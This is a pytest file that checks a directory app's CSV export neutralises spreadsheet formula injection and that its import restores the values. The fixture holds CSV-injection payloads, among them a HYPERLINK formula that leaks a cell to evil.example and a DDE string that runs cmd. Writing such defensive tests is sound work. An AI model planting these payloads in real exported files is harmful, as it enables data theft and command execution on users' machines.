"""No cell of a CSV the app writes can run as a spreadsheet formula (OWASP's advice), and
the import reads the export back unchanged."""

import csv

from sqlalchemy import select

from directory.extensions import db
from directory.models import Application
from directory.services.csv_cells import neutralise, restore
from tests.factories import make_provider

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "public_phone": "+33 2 98 00 00 00",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pitch_fr": "-2+3",
    "description_fr": "\t=1+1",
    "description_en": "\r=1+1",
    "postcode": "29200",
}


def _rows(text: str) -> list[dict]:
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("#")]
    return list(csv.DictReader(lines))


def test_every_cell_that_could_be_a_formula_is_neutralised(app, client):
    with app.app_context():
        make_provider(slug="evil", **HOSTILE)
    text = client.get("/export/providers.csv").get_data(as_text=True)
    (row,) = _rows(text)
    for column, value in HOSTILE.items():
        if column == "postcode":
            assert row[column] == value
        else:
            assert row[column] == "'" + value, column
    # Every cell is quoted, so that a separator or quote inside a cell stays in it.
    data_line = next(line for line in text.splitlines() if line.startswith('"evil"'))
    assert data_line.startswith('"evil","\'=HYPERLINK(""http://evil.example/?""&A1')


def test_neutralising_is_undone_exactly_by_the_import():
    for value in ["=1", "'=1", "''+1", "plain", "'quoted'", "-", "", "\t", "a=b"]:
        assert restore(neutralise(value)) == value
        assert not neutralise(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_import_reads_the_neutralised_export_back(app, client, runner, tmp_path):
    safe = {k: v for k, v in HOSTILE.items() if k not in ("description_fr", "description_en")}
    with app.app_context():
        make_provider(slug="evil", regions=["53"], **safe)
    export = tmp_path / "providers.csv"
    export.write_text(client.get("/export/providers.csv").get_data(as_text=True))
    result = runner.invoke(args=["import-csv", str(export)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        (application,) = db.session.scalars(select(Application)).all()
        assert application.data["name"] == HOSTILE["name"]
        assert application.data["public_phone"] == HOSTILE["public_phone"]
